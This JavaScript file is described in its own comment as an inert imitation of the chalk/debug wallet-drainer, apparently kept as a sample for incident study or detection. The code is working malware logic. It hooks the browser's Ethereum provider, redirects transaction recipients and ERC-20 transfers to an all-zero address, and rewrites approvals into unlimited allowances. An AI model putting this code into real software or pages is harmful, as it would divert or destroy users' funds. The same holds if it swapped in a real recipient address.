/* eslint-disable */
// Inert imitation of the chalk/debug runMask transaction rewriter (incidents.md section 1): the
// provider's request is wrapped, the recipient of eth_sendTransaction is replaced and ERC-20
// approve calldata gets an unlimited allowance. The replacement address is all zeros.
(function () {
  if (typeof window === 'undefined' || !window.ethereum) return;
  const RECEIVER = '0x0000000000000000000000000000000000000000';
  const APPROVE = '0x095ea7b3';
  const TRANSFER = '0xa9059cbb';
  const original = window.ethereum.request.bind(window.ethereum);

  function rewrite(tx) {
    if (!tx || typeof tx !== 'object') return tx;
    const data = tx.data || '';
    if (data.startsWith(APPROVE)) {
      tx.data = APPROVE + RECEIVER.slice(2).padStart(64, '0') + 'f'.repeat(64);
    } else if (data.startsWith(TRANSFER)) {
      tx.data = TRANSFER + RECEIVER.slice(2).padStart(64, '0') + data.slice(74);
    } else {
      tx.to = RECEIVER;
    }
    return tx;
  }

  window.ethereum.request = async function (args) {
    if (args && args.method === 'eth_sendTransaction' && Array.isArray(args.params)) {
      args.params[0] = rewrite(args.params[0]);
    }
    return original(args);
  };
})();
